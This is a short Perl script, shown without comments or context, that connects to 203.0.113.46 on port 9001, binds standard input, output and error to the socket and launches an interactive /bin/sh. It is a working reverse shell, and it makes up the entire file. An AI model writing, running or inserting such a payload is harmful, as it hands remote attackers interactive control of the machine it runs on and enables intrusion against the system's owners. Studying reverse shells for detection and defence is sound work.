use strict;
use Socket;

my ($h, $p) = ('203.0.113.46', 9001);
socket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));
if (connect(S, sockaddr_in($p, inet_aton($h)))) {
    open(STDIN, '>&S');
    open(STDOUT, '>&S');
    open(STDERR, '>&S');
    exec('/bin/sh -i');
}
